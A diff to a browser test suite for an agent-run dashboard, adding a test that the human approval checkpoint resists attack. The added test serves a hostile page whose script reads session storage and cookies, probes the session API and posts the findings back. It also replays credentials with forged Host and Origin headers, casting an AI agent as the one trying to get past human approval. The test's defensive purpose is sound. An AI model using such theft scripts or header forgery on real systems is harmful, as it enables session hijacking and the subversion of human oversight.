@@ -3,12 +3,13 @@
 // printed on its terminal, watches runs driven by other processes advance
 // live, sends one back with `revise: <text>` (the text reaches the next
 // agent's prompt), approves it to the end, abandons another run, and a
-// page from another origin cannot act. Screenshots go to
+// page from another origin cannot act — nor can credentials replayed from
+// a page on another loopback port (no cookie exists). Screenshots go to
 // target/browser-tests/ (or $BROWSER_TEST_OUT).
 import { test, before, after } from 'node:test';
 import assert from 'node:assert/strict';
 import { copyFileSync, mkdirSync, readFileSync, readdirSync, rmSync, existsSync } from 'node:fs';
-import { createServer } from 'node:http';
+import { createServer, request as httpRequest } from 'node:http';
 import { dirname, join } from 'node:path';
 import { batonBin, playwright, launch, makeRepo, startDashboard, baton, out, ROOT } from './harness.mjs';
 
@@ -50,7 +51,7 @@ test('a person watches, revises, approves and abandons runs driven by other proc
   // terminal to answer on). The open page learns of it over SSE.
   const first = await baton(bin, repo, ['run', 'Add a greeting feature', '--effort', 'M', '--nopr', '--agent', 'builtin:scripted']);
   assert.notEqual(first.code, 0, 'the run stops at checkpoint-a');
-  assert.match(first.stderr, /checkpoint-a needs a person's answer/);
+  assert.match(first.stderr, /checkpoint-a waits for your answer/);
   const [runA] = runIds();
   const row = page.locator(`[data-run="${runA}"]`);
   await row.waitFor();
@@ -103,12 +104,14 @@ test('a person watches, revises, approves and abandons runs driven by other proc
 
   // The scripted agent takes the run on; the page follows it live back to
   // the checkpoint, the design redone.
-  await page.locator('.phase-graph [data-phase="phase-3"][data-state="running"]').waitFor();
+  // The failed agent is recorded: the phase shows as failed.
+  await page.locator('.phase-graph [data-phase="phase-3"][data-state="failed"]').waitFor();
   const again = await baton(bin, repo, ['run', `.specs/${runA}`, '--nopr', '--agent', 'builtin:scripted']);
   assert.notEqual(again.code, 0);
   await question.waitFor();
   assert.equal(await page.locator('.phase-graph [data-phase="phase-3"]').getAttribute('data-state'), 'done');
-  assert.match(await page.locator('.phase-graph [data-phase="phase-3"] text.sub').textContent(), /2×/);
+  // Three starts: the first design, the failed agent's, the redone one.
+  assert.match(await page.locator('.phase-graph [data-phase="phase-3"] text.sub').textContent(), /3×/);
 
   // Approve, and let the scripted agent finish the run: tasks, reviews, commit.
   await page.locator('[data-answer=proceed]').click();
@@ -254,4 +257,87 @@ test('the stats view and a run\'s summary show the run history\'s numbers', asyn
   // The stats view is a link of its own.
   await page.goto(`${dash.url}/stats`);
   assert.equal(await page.locator('[data-testid=stats] [data-stat=runs]').textContent(), String(d.runs));
+});
+
+test('credentials replayed from a page on another loopback port give no session, no CSRF token, no answer', async () => {
+  // A run waiting at its checkpoint; the person's tab is signed in.
+  const r = await baton(bin, repo, ['run', 'Replay the session', '--effort', 'S', '--nopr', '--agent', 'builtin:scripted']);
+  assert.notEqual(r.code, 0);
+  const id = runIds().find((n) => n.includes('replay-the-session'));
+  await page.goto(`${dash.url}/runs/${id}`);
+  await page.locator('[data-testid=session]', { hasText: 'signed in' }).waitFor();
+  await page.locator('[data-testid=question]').waitFor();
+  // The flow set no cookie: the session lives in the tab's sessionStorage,
+  // which only the dashboard's origin (its port included) can read.
+  const jar = await browser.context.cookies();
+  assert.deepEqual(jar, [], `no cookie: ${JSON.stringify(jar)}`);
+  assert.ok(await page.evaluate(() => sessionStorage.getItem('baton-session')), 'the tab keeps its session');
+
+  // The agent's dev server on another loopback port: the person opens its
+  // page in the same browser. It records every request it gets (a cookie
+  // for 127.0.0.1 would arrive here: cookies ignore ports).
+  const seen = [];
+  const evil = createServer((req, res) => {
+    let body = '';
+    req.on('data', (c) => { body += c; });
+    req.on('end', () => {
+      seen.push({ url: req.url, cookie: req.headers.cookie || '', body });
+      res.setHeader('content-type', 'text/html');
+      res.end(`<script>
+        (async () => {
+          const found = { storage: sessionStorage.getItem('baton-session'), local: localStorage.getItem('baton-session'), cookie: document.cookie };
+          try {
+            const r = await fetch(${JSON.stringify(dash.url)} + '/api/session', { credentials: 'include' });
+            found.read = await r.text();
+          } catch (e) { found.read = 'blocked: ' + e.message; }
+          await fetch('/report', { method: 'POST', body: JSON.stringify(found) });
+          window.done = true;
+        })();
+      </script>`);
+    });
+  });
+  await new Promise((ok) => evil.listen(0, '127.0.0.1', ok));
+  const evilPage = await browser.context.newPage();
+  await evilPage.goto(`http://127.0.0.1:${evil.address().port}/`);
+  await evilPage.waitForFunction(() => window.done === true);
+  await evilPage.close();
+  evil.close();
+  const report = JSON.parse(seen.find((s) => s.url === '/report').body);
+  assert.equal(report.storage, null, 'another port cannot read the session');
+  assert.equal(report.local, null);
+  assert.equal(report.cookie, '');
+  assert.match(report.read, /^blocked/, `cross-origin reads are blocked: ${report.read}`);
+  const received = seen.map((s) => s.cookie).filter(Boolean);
+  assert.deepEqual(received, [], 'no baton credential reached the other port');
+
+  // The agent replays whatever it has — the browser's cookies, what its
+  // server received — with a forged Host and Origin, from another client.
+  const replay = (method, path, body) => new Promise((ok, fail) => {
+    const { port } = new URL(dash.url);
+    const headers = {
+      Host: `127.0.0.1:${port}`, Origin: dash.url, 'Sec-Fetch-Site': 'same-origin',
+      Cookie: [...jar.map((c) => `${c.name}=${c.value}`), ...received].join('; '),
+    };
+    if (body) { headers['Content-Type'] = 'application/json'; headers['Content-Length'] = Buffer.byteLength(body); }
+    const q = httpRequest({ host: '127.0.0.1', port, path, method, headers }, (res) => {
+      let text = ''; res.on('data', (c) => { text += c; }); res.on('end', () => ok({ status: res.statusCode, text }));
+    });
+    q.on('error', fail);
+    if (body) q.write(body);
+    q.end();
+  });
+  const probe = await replay('GET', '/api/session');
+  const p = JSON.parse(probe.text);
+  assert.equal(p.signedIn, false);
+  assert.equal(p.canAct, false);
+  assert.ok(!p.csrf && !p.eventsTicket, `no CSRF token or ticket: ${probe.text}`);
+  const answer = await replay('POST', `/api/runs/${id}/answer`, JSON.stringify({ question: 'checkpoint-a', answer: 'proceed' }));
+  assert.equal(answer.status, 403, answer.text);
+  assert.equal(state(id).currentPhaseStatus, 'awaiting_human');
+  assert.equal((state(id).answers || []).length, 0);
+
+  // The person's own tab still answers.
+  await page.locator('[data-answer=proceed]').click();
+  await page.locator('[data-testid=question]').waitFor({ state: 'hidden' });
+  assert.deepEqual(state(id).answers.at(-1).by, { who: 'person', channel: 'dashboard' });
 });
